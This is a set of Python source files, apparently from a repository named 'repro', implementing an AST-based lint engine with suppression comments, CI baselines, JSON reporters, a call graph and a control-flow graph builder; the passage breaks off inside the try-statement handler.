    def lint_paths(self, paths: Iterable[str | Path]) -> list[Finding]:
        """Lint files and directory trees (``*.py``, sorted for stability).

        All files form one program: the project-phase rules (call graph,
        dataflow, suppression audit) see them together, so facts like
        "this helper reaches the wall clock" cross file boundaries.
        """
        files: list[tuple[str, str]] = []
        for path in paths:
            for file_path in _python_files(Path(path)):
                files.append(
                    (str(file_path), file_path.read_text(encoding="utf-8"))
                )
        return self._run(files)

    # --- the run ------------------------------------------------------------

    def _run(self, files: Sequence[tuple[str, str]]) -> list[Finding]:
        findings: list[Finding] = []
        contexts: list[LintContext] = []
        walked: list[tuple[LintContext, list[Finding]]] = []
        for path, source in files:
            try:
                tree = ast.parse(source, filename=path)
            except SyntaxError as error:
                findings.append(
                    Finding(
                        path=path,
                        line=error.lineno or 1,
                        col=(error.offset or 1) - 1,
                        code="PARSE001",
                        message=f"could not parse module: {error.msg}",
                    )
                )
                continue
            context = LintContext(path=path, source=source, tree=tree)
            contexts.append(context)
            walked.append((context, self._walk(context)))

        program = Program(contexts)
        program.ran_codes = frozenset(rule.code for rule in self.rules)
        program.complete = program.ran_codes >= frozenset(RULE_REGISTRY)
        records_by_path: dict[str, dict[int, SuppressionRecord]] = {}
        for context, raw in walked:
            records = _suppression_records(context.path, context.source)
            records_by_path[context.path] = records
            program.suppressions.extend(
                records[line] for line in sorted(records)
            )
            findings.extend(_apply_suppressions(raw, records))

        for rule in sorted(
            self.rules, key=lambda rule: (rule.finish_priority, rule.code)
        ):
            produced = list(rule.finish(program))
            if rule.suppressible:
                by_path: dict[str, list[Finding]] = {}
                for finding in produced:
                    by_path.setdefault(finding.path, []).append(finding)
                produced = []
                for path, group in by_path.items():
                    produced.extend(
                        _apply_suppressions(
                            group, records_by_path.get(path, {})
                        )
                    )
            findings.extend(produced)
        return sorted(findings)

    def _walk(self, context: LintContext) -> list[Finding]:
        """Per-node rule findings for one module (pre-suppression)."""
        for rule in self.rules:
            rule.prepare(context)
        raw: list[Finding] = []
        for node in ast.walk(context.tree):
            for rule in self._dispatch.get(type(node), ()):
                raw.extend(rule.visit(node, context))
        return raw


def _apply_suppressions(
    raw: Iterable[Finding], records: dict[int, SuppressionRecord]
) -> list[Finding]:
    """Drop suppressed findings, marking each record that earned it."""
    kept: list[Finding] = []
    for finding in raw:
        record = records.get(finding.line)
        if record is not None and (
            record.codes is None or finding.code in record.codes
        ):
            record.used_codes.add(finding.code)
            continue
        kept.append(finding)
    return kept


def _python_files(path: Path) -> Iterator[Path]:
    if path.is_dir():
        yield from sorted(path.rglob("*.py"))
    else:
        yield path


def lint_source(source: str, path: str = "<string>") -> list[Finding]:
    """Lint source text with the default rule set."""
    return LintEngine().lint_source(source, path=path)


def lint_paths(paths: Iterable[str | Path]) -> list[Finding]:
    """Lint files/trees with the default rule set."""
    return LintEngine().lint_paths(paths)
