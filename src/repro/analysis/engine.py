"""The AST lint engine: rule framework, dispatch and suppressions.

A :class:`~repro.analysis.rules.Rule` declares the AST node types it is
interested in; the engine parses each module once, walks the tree once,
and dispatches every node to the rules registered for its type (a
visitor registry — adding a rule never adds another tree walk).

Suppressions follow the project convention::

    something_flagged()  # repro: noqa[DET001]
    another_thing()      # repro: noqa[DET001,API001]
    blanket_escape()     # repro: noqa

A suppression applies to the physical line the finding is anchored to.
Unparseable files surface as ``PARSE001`` findings rather than crashing
the run, so one bad file cannot hide findings in the rest of a tree.
"""

from __future__ import annotations

import ast
import re
from pathlib import Path
from typing import Iterable, Iterator, Sequence

from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, default_rules

#: ``# repro: noqa`` or ``# repro: noqa[CODE,CODE...]``
_NOQA_PATTERN = re.compile(
    r"#\s*repro:\s*noqa(?:\[(?P<codes>[A-Z0-9_,\s]+)\])?"
)

#: Module prefixes treated as simulation paths by determinism rules.
SIM_SCOPE_PREFIXES = (
    "repro.net",
    "repro.core",
    "repro.faults",
    "repro.load",
    "repro.autoscale",
)


def module_name_for(path: str) -> str:
    """The dotted module name a file path denotes.

    The name is rooted at the last ``repro`` component so both installed
    trees (``src/repro/net/switch.py``) and synthetic fixture paths
    (``repro/net/fake.py``) resolve identically; paths outside a
    ``repro`` tree fall back to their stem.
    """
    parts = Path(path).with_suffix("").parts
    for index in range(len(parts) - 1, -1, -1):
        if parts[index] == "repro":
            selected = parts[index:]
            if selected[-1] == "__init__":
                selected = selected[:-1]
            return ".".join(selected)
    return parts[-1] if parts else ""


class LintContext:
    """Per-module state shared by every rule during one walk."""

    def __init__(self, path: str, source: str, tree: ast.Module) -> None:
        self.path = path
        self.source = source
        self.tree = tree
        self.module = module_name_for(path)

    @property
    def in_sim_scope(self) -> bool:
        """True for modules on the deterministic simulation paths."""
        return self.module.startswith(SIM_SCOPE_PREFIXES)

    def finding(self, node: ast.AST, code: str, message: str) -> Finding:
        """A finding anchored at *node* (1-based line, 0-based column)."""
        return Finding(
            path=self.path,
            line=getattr(node, "lineno", 1),
            col=getattr(node, "col_offset", 0),
            code=code,
            message=message,
        )


def _suppressed_codes(source: str) -> dict[int, frozenset[str] | None]:
    """``{line number: codes}`` for every noqa comment; None = blanket."""
    suppressions: dict[int, frozenset[str] | None] = {}
    for line_number, line in enumerate(source.splitlines(), 1):
        match = _NOQA_PATTERN.search(line)
        if match is None:
            continue
        codes = match.group("codes")
        if codes is None:
            suppressions[line_number] = None
        else:
            suppressions[line_number] = frozenset(
                code.strip() for code in codes.split(",") if code.strip()
            )
    return suppressions


class LintEngine:
    """Runs a set of rules over source files, modules or trees."""

    def __init__(self, rules: Sequence[Rule] | None = None) -> None:
        self.rules: tuple[Rule, ...] = (
            tuple(rules) if rules is not None else tuple(default_rules())
        )
        # Visitor registry: AST node type -> rules interested in it.
        self._dispatch: dict[type[ast.AST], list[Rule]] = {}
        for rule in self.rules:
            for node_type in rule.node_types:
                self._dispatch.setdefault(node_type, []).append(rule)

    def lint_source(self, source: str, path: str = "<string>") -> list[Finding]:
        """Lint one module's source text."""
        try:
            tree = ast.parse(source, filename=path)
        except SyntaxError as error:
            return [
                Finding(
                    path=path,
                    line=error.lineno or 1,
                    col=(error.offset or 1) - 1,
                    code="PARSE001",
                    message=f"could not parse module: {error.msg}",
                )
            ]
        context = LintContext(path=path, source=source, tree=tree)
        suppressions = _suppressed_codes(source)
        for rule in self.rules:
            rule.prepare(context)
        findings: list[Finding] = []
        for node in ast.walk(tree):
            for rule in self._dispatch.get(type(node), ()):
                for finding in rule.visit(node, context):
                    codes = suppressions.get(finding.line, frozenset())
                    if codes is None or finding.code in codes:
                        continue
                    findings.append(finding)
        return sorted(findings)

    def lint_file(self, path: str | Path) -> list[Finding]:
        """Lint one file on disk."""
        file_path = Path(path)
        return self.lint_source(
            file_path.read_text(encoding="utf-8"), path=str(file_path)
        )

    def lint_paths(self, paths: Iterable[str | Path]) -> list[Finding]:
        """Lint files and directory trees (``*.py``, sorted for stability)."""
        findings: list[Finding] = []
        for path in paths:
            for file_path in _python_files(Path(path)):
                findings.extend(self.lint_file(file_path))
        return sorted(findings)


def _python_files(path: Path) -> Iterator[Path]:
    if path.is_dir():
        yield from sorted(path.rglob("*.py"))
    else:
        yield path


def lint_source(source: str, path: str = "<string>") -> list[Finding]:
    """Lint source text with the default rule set."""
    return LintEngine().lint_source(source, path=path)


def lint_paths(paths: Iterable[str | Path]) -> list[Finding]:
    """Lint files/trees with the default rule set."""
    return LintEngine().lint_paths(paths)
