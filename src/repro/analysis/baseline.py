"""Checked-in finding baselines: the zero-new-findings CI ratchet.

A baseline is a JSON file of *accepted* findings.  CI runs the linter
with ``--baseline``: findings matching a baseline entry are absorbed,
anything else fails the build — so the debt can only shrink.  Entries
are keyed ``(path, code, message)`` and deliberately **not** by line
number, so unrelated edits that shift a finding a few lines do not
churn the file or mask a genuinely new finding elsewhere in it.

Matching is multiset-style: one entry absorbs one finding, a finding
repeated N times needs N entries.  ``--write-baseline`` regenerates the
file from the current findings (sorted, stable), which is also how debt
is retired: fix the code, regenerate, commit the smaller file.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Sequence

from repro.analysis.findings import Finding

#: Schema version of the baseline file.
BASELINE_VERSION = 1

_Entry = tuple[str, str, str]


class BaselineError(ValueError):
    """The baseline file is malformed or has an unsupported version."""


def _identity(finding: Finding) -> _Entry:
    return (finding.path, finding.code, finding.message)


def load_baseline(path: str | Path) -> list[_Entry]:
    """The accepted-finding identities a baseline file records."""
    try:
        document = json.loads(Path(path).read_text(encoding="utf-8"))
    except json.JSONDecodeError as error:
        raise BaselineError(f"baseline {path} is not valid JSON: {error}")
    if not isinstance(document, dict) or "entries" not in document:
        raise BaselineError(f"baseline {path} has no 'entries' list")
    version = document.get("version")
    if version != BASELINE_VERSION:
        raise BaselineError(
            f"baseline {path} has version {version!r}; "
            f"this tool reads version {BASELINE_VERSION}"
        )
    entries: list[_Entry] = []
    for raw in document["entries"]:
        if not isinstance(raw, dict) or not {"path", "code", "message"} <= set(raw):
            raise BaselineError(
                f"baseline {path}: every entry needs path/code/message keys"
            )
        entries.append((str(raw["path"]), str(raw["code"]), str(raw["message"])))
    return entries


def write_baseline(findings: Sequence[Finding], path: str | Path) -> int:
    """Write the baseline file for *findings*; returns the entry count."""
    document = {
        "version": BASELINE_VERSION,
        "entries": [
            {
                "path": finding.path,
                "code": finding.code,
                "message": finding.message,
            }
            for finding in sorted(findings)
        ],
    }
    Path(path).write_text(
        json.dumps(document, indent=2, sort_keys=True) + "\n", encoding="utf-8"
    )
    return len(document["entries"])


def apply_baseline(
    findings: Sequence[Finding], entries: Sequence[_Entry]
) -> tuple[list[Finding], list[_Entry]]:
    """``(new findings, stale entries)`` after absorbing baselined ones.

    Stale entries — debt that no longer exists — are reported so the
    caller can prompt for a ``--write-baseline`` refresh; they never
    fail a run on their own.
    """
    budget: dict[_Entry, int] = {}
    for entry in entries:
        budget[entry] = budget.get(entry, 0) + 1
    fresh: list[Finding] = []
    for finding in sorted(findings):
        key = _identity(finding)
        if budget.get(key, 0) > 0:
            budget[key] -= 1
        else:
            fresh.append(finding)
    stale = sorted(
        entry for entry, remaining in budget.items() for _ in range(remaining)
    )
    return fresh, stale
