"""Finding reporters: human-readable text and a stable JSON schema."""

from __future__ import annotations

import json
from typing import Sequence

from repro.analysis.findings import Finding
from repro.analysis.validators import ValidationIssue, errors_in

#: Schema version of the JSON report; bump on incompatible changes.
JSON_SCHEMA_VERSION = 1


def render_text(findings: Sequence[Finding]) -> str:
    """One line per finding plus a summary line, sorted and stable."""
    lines = [finding.render() for finding in sorted(findings)]
    if lines:
        by_code: dict[str, int] = {}
        for finding in findings:
            by_code[finding.code] = by_code.get(finding.code, 0) + 1
        breakdown = ", ".join(
            f"{code}: {count}" for code, count in sorted(by_code.items())
        )
        lines.append(f"{len(findings)} finding(s) ({breakdown})")
    else:
        lines.append("no findings")
    return "\n".join(lines) + "\n"


def render_json(findings: Sequence[Finding]) -> str:
    """A JSON document::

        {
          "version": 1,
          "counts": {"DET001": 2, ...},
          "findings": [
            {"path": ..., "line": ..., "col": ..., "code": ...,
             "message": ..., "severity": "error" | "warning"},
            ...
          ]
        }

    Findings are sorted by (path, line, col, code); ``counts`` is keyed
    by rule code.  The schema is covered by tests — CI consumers may
    rely on it.  (``severity`` was added by the dataflow-analyzer PR as
    a compatible extension, so the version stays 1.)
    """
    ordered = sorted(findings)
    counts: dict[str, int] = {}
    for finding in ordered:
        counts[finding.code] = counts.get(finding.code, 0) + 1
    document = {
        "version": JSON_SCHEMA_VERSION,
        "counts": dict(sorted(counts.items())),
        "findings": [
            {
                "path": finding.path,
                "line": finding.line,
                "col": finding.col,
                "code": finding.code,
                "message": finding.message,
                "severity": finding.severity,
            }
            for finding in ordered
        ],
    }
    return json.dumps(document, indent=2, sort_keys=True) + "\n"


def render_issues_json(issues: Sequence[ValidationIssue]) -> str:
    """JSON form of a validator report, mirroring :func:`render_json`::

        {
          "version": 1,
          "errors": 2,
          "warnings": 1,
          "issues": [
            {"code": ..., "severity": ..., "subject": ..., "message": ...},
            ...
          ]
        }
    """
    ordered = sorted(issues, key=lambda i: (i.severity.value, i.code, i.subject))
    error_count = len(errors_in(issues))
    document = {
        "version": JSON_SCHEMA_VERSION,
        "errors": error_count,
        "warnings": len(issues) - error_count,
        "issues": [
            {
                "code": issue.code,
                "severity": issue.severity.value,
                "subject": issue.subject,
                "message": issue.message,
            }
            for issue in ordered
        ],
    }
    return json.dumps(document, indent=2, sort_keys=True) + "\n"
