"""A lightweight module-level call graph over linted modules.

Per-statement rules (DET001 and friends) see one call expression at a
time; two rule families need more:

* **DET003** asks "does this sim-scoped call *transitively* reach a
  wall-clock read?", which requires following calls across every module
  in the lint run; and
* **RES001** treats a call to a *resource factory* (a function that
  returns a fresh ``SharedMemory``/``Process``/... — directly or via
  another factory) as an acquisition, so ownership facts propagate
  instead of stopping at the first helper function.

Resolution is deliberately lightweight and purely syntactic:

* bare names resolve to same-module functions, then ``from m import f``
  imports;
* ``alias.attr`` resolves through ``import m [as alias]``;
* ``self.method`` resolves to the enclosing class;
* everything else is kept as its raw dotted name (useful for matching
  external sinks like ``time.time``) with no program edge.

Unresolvable calls simply contribute no edge — the graph
under-approximates, which for the taint/factory facts means missed
findings, never false ones.
"""

from __future__ import annotations

import ast
from typing import Callable, Iterable, NamedTuple, Protocol

from repro.analysis.astutil import dotted_name

__all__ = ["CallGraph", "CallSite", "FunctionInfo", "Reach"]


class _ModuleLike(Protocol):
    """What the graph needs from a lint context."""

    module: str
    tree: ast.Module


class CallSite(NamedTuple):
    """One call expression inside a function."""

    node: ast.Call
    #: Fully-qualified target (``repro.x.f``, ``repro.x.C.m`` or an
    #: external dotted name like ``time.time``); None when unresolvable.
    target: str | None
    #: The raw dotted form as written (``ctx.Queue``), for heuristics.
    raw: str | None


class FunctionInfo:
    """One function/method of the linted program."""

    def __init__(
        self,
        qualname: str,
        module: str,
        node: ast.FunctionDef | ast.AsyncFunctionDef,
        class_name: str | None,
    ) -> None:
        self.qualname = qualname
        self.module = module
        self.node = node
        self.class_name = class_name
        self.calls: list[CallSite] = []
        #: Expressions this function returns (None returns excluded).
        self.returns: list[ast.expr] = []


class Reach(NamedTuple):
    """Why a function is tainted: the external sink it reaches and the
    next hop toward it (None when the sink call is in this function)."""

    sink: str
    via: str | None


class _ModuleScope:
    """Import aliases and definitions of one module."""

    def __init__(self, module: str, tree: ast.Module) -> None:
        self.module = module
        self.import_aliases: dict[str, str] = {}
        self.from_imports: dict[str, str] = {}
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    self.import_aliases[alias.asname or alias.name.split(".")[0]] = (
                        alias.name
                    )
            elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
                for alias in node.names:
                    self.from_imports[alias.asname or alias.name] = (
                        f"{node.module}.{alias.name}"
                    )


class CallGraph:
    """Functions, resolved call edges and fact-propagation helpers."""

    def __init__(self) -> None:
        self.functions: dict[str, FunctionInfo] = {}

    # --- construction -------------------------------------------------------

    @classmethod
    def build(cls, contexts: Iterable[_ModuleLike]) -> "CallGraph":
        graph = cls()
        scopes: list[tuple[_ModuleScope, _ModuleLike]] = []
        for context in contexts:
            scope = _ModuleScope(context.module, context.tree)
            scopes.append((scope, context))
            graph._collect_functions(scope, context.tree)
        for scope, context in scopes:
            graph._collect_calls(scope, context.tree)
        return graph

    def _collect_functions(
        self,
        scope: _ModuleScope,
        tree: ast.AST,
        prefix: str = "",
        class_name: str | None = None,
    ) -> None:
        for node in ast.iter_child_nodes(tree):
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                qualname = f"{scope.module}.{prefix}{node.name}"
                self.functions[qualname] = FunctionInfo(
                    qualname, scope.module, node, class_name
                )
                self._collect_functions(
                    scope, node, f"{prefix}{node.name}.", class_name
                )
            elif isinstance(node, ast.ClassDef):
                self._collect_functions(
                    scope, node, f"{prefix}{node.name}.", node.name
                )

    def _collect_calls(self, scope: _ModuleScope, tree: ast.Module) -> None:
        for info in self.functions.values():
            if info.module != scope.module:
                continue
            body_nodes = [
                node
                for child in ast.iter_child_nodes(info.node)
                for node in ast.walk(child)
            ]
            nested = {
                id(inner)
                for node in body_nodes
                if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef))
                for inner in ast.walk(node)
                if inner is not node
            }
            for node in body_nodes:
                if id(node) in nested:
                    continue  # belongs to a nested function's own info
                if isinstance(node, ast.Call):
                    info.calls.append(self._resolve(scope, info, node))
                elif isinstance(node, ast.Return) and node.value is not None:
                    info.returns.append(node.value)

    def _resolve(
        self, scope: _ModuleScope, info: FunctionInfo, node: ast.Call
    ) -> CallSite:
        raw = dotted_name(node.func)
        if raw is None:
            return CallSite(node, None, None)
        parts = raw.split(".")
        head = parts[0]
        # self.method() -> the enclosing class.
        if head == "self" and info.class_name is not None and len(parts) == 2:
            candidate = f"{scope.module}.{info.class_name}.{parts[1]}"
            return CallSite(node, candidate, raw)
        if len(parts) == 1:
            candidate = f"{scope.module}.{head}"
            if candidate in self.functions:
                return CallSite(node, candidate, raw)
            imported = scope.from_imports.get(head)
            if imported is not None:
                return CallSite(node, imported, raw)
            return CallSite(node, raw, raw)
        # alias.attr... -> resolve the alias through plain imports.
        alias_target = scope.import_aliases.get(head)
        if alias_target is not None:
            return CallSite(node, ".".join([alias_target, *parts[1:]]), raw)
        imported = scope.from_imports.get(head)
        if imported is not None:
            return CallSite(node, ".".join([imported, *parts[1:]]), raw)
        return CallSite(node, raw, raw)

    # --- fact propagation ---------------------------------------------------

    def transitive_reach(
        self, is_sink: Callable[[str], bool]
    ) -> dict[str, Reach]:
        """Functions that (transitively) call a sink.

        *is_sink* judges resolved/raw dotted call names (``time.time``).
        The result maps each reaching function to the sink name and the
        next program function on the path (for diagnostics).
        """
        reaches: dict[str, Reach] = {}
        for qualname, info in self.functions.items():
            for site in info.calls:
                for name in (site.target, site.raw):
                    if name is not None and is_sink(name):
                        reaches[qualname] = Reach(name, None)
                        break
                if qualname in reaches:
                    break
        changed = True
        while changed:
            changed = False
            for qualname, info in self.functions.items():
                if qualname in reaches:
                    continue
                for site in info.calls:
                    target = site.target
                    if target in reaches and target != qualname:
                        reaches[qualname] = Reach(reaches[target].sink, target)
                        changed = True
                        break
        return reaches

    def returning_functions(
        self, is_direct: Callable[[ast.expr, FunctionInfo], bool]
    ) -> set[str]:
        """Functions whose return value satisfies *is_direct* — or returns
        a call to another such function, transitively (resource
        factories)."""
        factories: set[str] = set()
        for qualname, info in self.functions.items():
            if any(
                is_direct(expression, info) for expression in info.returns
            ):
                factories.add(qualname)
        changed = True
        while changed:
            changed = False
            for qualname, info in self.functions.items():
                if qualname in factories:
                    continue
                for expression in info.returns:
                    if not isinstance(expression, ast.Call):
                        continue
                    site = next(
                        (s for s in info.calls if s.node is expression), None
                    )
                    if (
                        site is not None
                        and site.target in factories
                        and site.target != qualname
                    ):
                        factories.add(qualname)
                        changed = True
                        break
        return factories
