"""The lint engine's finding model."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, order=True)
class Finding:
    """One lint finding, anchored to a source location.

    Ordering is (path, line, col, code) so reporter output is stable
    regardless of rule evaluation order.
    """

    path: str
    line: int
    col: int
    code: str
    message: str

    def render(self) -> str:
        """The conventional one-line ``path:line:col: CODE message`` form."""
        return f"{self.path}:{self.line}:{self.col}: {self.code} {self.message}"
