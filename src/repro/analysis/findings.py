"""The lint engine's finding model."""

from __future__ import annotations

from dataclasses import dataclass

#: Recognized severities, strongest first.  ``error`` findings gate CI;
#: ``warning`` findings (the suppression audit) inform but still fail an
#: unbaselined run so they cannot silently accumulate.
SEVERITIES = ("error", "warning")


@dataclass(frozen=True, order=True)
class Finding:
    """One lint finding, anchored to a source location.

    Ordering is (path, line, col, code) so reporter output is stable
    regardless of rule evaluation order; ``severity`` participates last
    and defaults to ``error`` so pre-severity call sites are unchanged.
    """

    path: str
    line: int
    col: int
    code: str
    message: str
    severity: str = "error"

    def render(self) -> str:
        """The conventional one-line ``path:line:col: CODE message`` form
        (warnings carry an explicit ``warning:`` tag)."""
        tag = "" if self.severity == "error" else f"{self.severity}: "
        return (
            f"{self.path}:{self.line}:{self.col}: {tag}{self.code} "
            f"{self.message}"
        )
