"""Intraprocedural control-flow graphs over ``ast`` function bodies.

The per-node lint rules of :mod:`repro.analysis.rules` see one statement
at a time; the resource/concurrency family (RES/CON, DESIGN.md section
14) needs *paths* — "is there a way from this ``SharedMemory`` acquisition
to the function's exit that skips ``unlink()``?".  This module builds the
graph those rules walk.

Shape of the graph
------------------

* A :class:`Block` holds a run of simple statements.  Compound statements
  (``if``/``while``/``for``/``with``/``try``) contribute their *header
  node* to the block where they start; their bodies live in successor
  blocks.  Dataflow clients must therefore interpret only the header when
  they see an ``ast.If``/``ast.With``/... in a block (for ``with`` that
  means the ``items``; bodies are walked via edges).
* Every :class:`CFG` has three distinguished empty blocks: ``entry``,
  ``exit`` (normal completion and ``return``) and ``raise_exit`` (an
  exception escaping the function).
* Edges carry a ``kind`` tag (``next``, ``true``, ``false``, ``loop``,
  ``break``, ``continue``, ``except``, ``finally``, ``return``,
  ``raise``) — purely informational except for ``except``, which dataflow
  engines treat specially (the exception may occur at *any* statement of
  the source block, so the edge carries the join over the block's
  intermediate states, see :mod:`repro.analysis.dataflow`).

Compromises (documented, deliberate)
------------------------------------

* A ``finally`` suite is built **once** and shared by every completion of
  its ``try`` (normal, ``return``, ``raise``, ``break``, ``continue``):
  the paths merge through it and fan back out.  This over-approximates
  (a state can appear to flow from one completion to another's target),
  which for may-leak analyses errs toward reporting.
* Statements lexically inside a ``try`` that has handlers or a
  ``finally`` are marked :attr:`Block.protected`.  Exception edges are
  added from every block of a protected ``try`` body to each handler;
  *unprotected* statements get no implicit exception edges — clients that
  care about exceptions escaping the function (the RES001 acquisition
  window) test :attr:`Block.protected` themselves.
* ``while True:`` (any constant-true test) gets no false edge, so code
  after an escape-only loop is not spuriously reachable.
"""

from __future__ import annotations

import ast
from typing import Iterator, NamedTuple

__all__ = ["Block", "CFG", "Edge", "build_cfg", "function_cfgs"]

#: Edge kinds, for reference and reporters.
EDGE_KINDS = (
    "next",
    "true",
    "false",
    "loop",
    "break",
    "continue",
    "except",
    "finally",
    "return",
    "raise",
)

FunctionNode = ast.FunctionDef | ast.AsyncFunctionDef


class Edge(NamedTuple):
    """One directed CFG edge."""

    dest: "Block"
    kind: str


class Block:
    """A straight-line run of statements with tagged successor edges."""

    def __init__(self, block_id: int, *, protected: bool = False) -> None:
        self.id = block_id
        self.statements: list[ast.stmt] = []
        self.edges: list[Edge] = []
        #: True when the block sits inside a ``try`` with handlers or a
        #: ``finally`` — an exception raised here stays in the function.
        self.protected = protected

    def successors(self) -> list["Block"]:
        """Successor blocks, edge order, duplicates removed."""
        seen: list[Block] = []
        for edge in self.edges:
            if edge.dest not in seen:
                seen.append(edge.dest)
        return seen

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        kinds = [f"{edge.kind}->{edge.dest.id}" for edge in self.edges]
        return f"<Block {self.id} stmts={len(self.statements)} {kinds}>"


class CFG:
    """The control-flow graph of one function."""

    def __init__(self, function: FunctionNode, qualname: str) -> None:
        self.function = function
        self.qualname = qualname
        self.blocks: list[Block] = []
        self.entry = self.new_block()
        self.exit = self.new_block()
        self.raise_exit = self.new_block()

    def new_block(self, *, protected: bool = False) -> Block:
        block = Block(len(self.blocks), protected=protected)
        self.blocks.append(block)
        return block

    def reachable_blocks(self) -> list[Block]:
        """Blocks reachable from ``entry``, in discovery (DFS) order."""
        seen: set[int] = set()
        order: list[Block] = []
        stack = [self.entry]
        while stack:
            block = stack.pop()
            if block.id in seen:
                continue
            seen.add(block.id)
            order.append(block)
            for edge in reversed(block.edges):
                stack.append(edge.dest)
        return order

    def describe(self) -> str:
        """A stable multi-line text rendering (used by the golden tests).

        One line per reachable block::

            B0[entry] -> next:B3
            B3 'seg = ...' -> true:B4 false:B1[exit]

        Statements render as their first source line's
        ``ast.dump``-independent summary (the node type plus line), so the
        goldens do not depend on unparse details.
        """
        labels = {self.exit.id: "[exit]", self.raise_exit.id: "[raise]"}
        labels[self.entry.id] = "[entry]"
        lines = []
        for block in self.reachable_blocks():
            label = labels.get(block.id, "")
            stmts = ",".join(
                type(statement).__name__ for statement in block.statements
            )
            edges = " ".join(
                f"{edge.kind}:B{edge.dest.id}" for edge in block.edges
            )
            protected = " protected" if block.protected else ""
            lines.append(
                f"B{block.id}{label}({stmts}){protected} -> {edges}".rstrip()
            )
        return "\n".join(lines)


class _Frame(NamedTuple):
    """One enclosing loop: where ``continue`` and ``break`` go, plus the
    finally-stack depth at loop entry (jumps drain finallys below it)."""

    continue_target: Block
    break_target: Block
    finally_depth: int


class _Finally(NamedTuple):
    """One enclosing ``finally`` suite (shared entry/exit blocks)."""

    entry: Block
    exit: Block


def _is_constant_true(test: ast.expr) -> bool:
    return isinstance(test, ast.Constant) and bool(test.value)


class _Builder:
    """Builds one function's CFG with a single statement-list walk."""

    def __init__(self, function: FunctionNode, qualname: str) -> None:
        self.cfg = CFG(function, qualname)
        self.current: Block | None = None
        self.loops: list[_Frame] = []
        self.finallys: list[_Finally] = []
        #: Nesting depth of try statements that keep exceptions in the
        #: function (handlers or finally) — new blocks copy this.
        self.protected_depth = 0

    # --- plumbing -----------------------------------------------------------

    def _new_block(self) -> Block:
        return self.cfg.new_block(protected=self.protected_depth > 0)

    def _link(self, src: Block, dst: Block, kind: str) -> None:
        edge = Edge(dst, kind)
        if edge not in src.edges:
            src.edges.append(edge)

    def _start_block(self, preds: list[tuple[Block, str]]) -> Block:
        block = self._new_block()
        for pred, kind in preds:
            self._link(pred, block, kind)
        return block

    def _jump(self, target: Block, kind: str, *, depth: int = 0) -> None:
        """Route ``current`` to *target* through enclosing finallys.

        *depth* is the finally-stack depth of the target: a ``return``
        drains every finally (depth 0-from-bottom means all); ``break``/
        ``continue`` drain only finallys entered inside the loop.
        """
        if self.current is None:
            return
        chain = self.finallys[depth:]
        src = self.current
        if not chain:
            self._link(src, target, kind)
        else:
            self._link(src, chain[-1].entry, "finally")
            for inner, outer in zip(chain[::-1], chain[-2::-1]):
                self._link(inner.exit, outer.entry, "finally")
            self._link(chain[0].exit, target, kind)
        self.current = None

    # --- statement dispatch -------------------------------------------------

    def build(self) -> CFG:
        body_entry = self._start_block([(self.cfg.entry, "next")])
        self.current = body_entry
        self._walk(self.cfg.function.body)
        if self.current is not None:
            self._link(self.current, self.cfg.exit, "next")
        return self.cfg

    def _walk(self, statements: list[ast.stmt]) -> None:
        for statement in statements:
            if self.current is None:
                # Unreachable code after a jump: park it in a fresh block
                # with no predecessors so the walk stays total.
                self.current = self._new_block()
            handler = _DISPATCH.get(type(statement))
            if handler is None:
                self.current.statements.append(statement)
            else:
                handler(self, statement)

    def _handle_return(self, statement: ast.stmt) -> None:
        assert self.current is not None
        self.current.statements.append(statement)
        self._jump(self.cfg.exit, "return")

    def _handle_raise(self, statement: ast.stmt) -> None:
        assert self.current is not None
        self.current.statements.append(statement)
        # A raise may be caught by an enclosing handler (edges from the
        # protected region already point there); it may also escape.
        self._jump(self.cfg.raise_exit, "raise")

    def _handle_break(self, statement: ast.stmt) -> None:
        assert self.current is not None
        self.current.statements.append(statement)
        if self.loops:
            frame = self.loops[-1]
            self._jump(frame.break_target, "break", depth=frame.finally_depth)
        else:  # pragma: no cover - syntactically invalid input
            self.current = None

    def _handle_continue(self, statement: ast.stmt) -> None:
        assert self.current is not None
        self.current.statements.append(statement)
        if self.loops:
            frame = self.loops[-1]
            self._jump(
                frame.continue_target, "continue", depth=frame.finally_depth
            )
        else:  # pragma: no cover - syntactically invalid input
            self.current = None

    def _handle_if(self, statement: ast.stmt) -> None:
        assert isinstance(statement, ast.If)
        assert self.current is not None
        self.current.statements.append(statement)
        header = self.current
        after = self._new_block()
        then_entry = self._start_block([(header, "true")])
        self.current = then_entry
        self._walk(statement.body)
        if self.current is not None:
            self._link(self.current, after, "next")
        if statement.orelse:
            else_entry = self._start_block([(header, "false")])
            self.current = else_entry
            self._walk(statement.orelse)
            if self.current is not None:
                self._link(self.current, after, "next")
        else:
            self._link(header, after, "false")
        self.current = after

    def _handle_loop(self, statement: ast.stmt) -> None:
        assert isinstance(statement, (ast.While, ast.For, ast.AsyncFor))
        assert self.current is not None
        header = self._start_block([(self.current, "next")])
        header.statements.append(statement)
        after = self._new_block()
        body_entry = self._start_block([(header, "true")])
        escape_only = isinstance(statement, ast.While) and _is_constant_true(
            statement.test
        )
        self.loops.append(_Frame(header, after, len(self.finallys)))
        self.current = body_entry
        self._walk(statement.body)
        if self.current is not None:
            self._link(self.current, header, "loop")
        self.loops.pop()
        if statement.orelse:
            else_entry = (
                self._new_block()
                if escape_only
                else self._start_block([(header, "false")])
            )
            self.current = else_entry
            self._walk(statement.orelse)
            if self.current is not None:
                self._link(self.current, after, "next")
        elif not escape_only:
            self._link(header, after, "false")
        self.current = after

    def _handle_with(self, statement: ast.stmt) -> None:
        assert isinstance(statement, (ast.With, ast.AsyncWith))
        assert self.current is not None
        self.current.statements.append(statement)
        body_entry = self._start_block([(self.current, "next")])
        self.current = body_entry
        self._walk(statement.body)
        # Fall through: __exit__ runs on every path, but the with itself
        # adds no branching; exceptions propagate as usual.

    def _handle_try(self, statement: ast.stmt) -> None:
        assert isinstance(statement, ast.Try)
        assert self.current is not None
        self.current.statements.append(statement)
        header = self.current
        after = self._new_block()
        has_finally = bool(statement.finalbody)
        has_handlers = bool(statement.handlers)

        finally_frame: _Finally | None = None
        if has_finally:
            # Build the shared finally suite first so abrupt jumps inside
            # the body can route through it.
            finally_entry = self._new_block()
            saved = self.current
            self.current = finally_entry
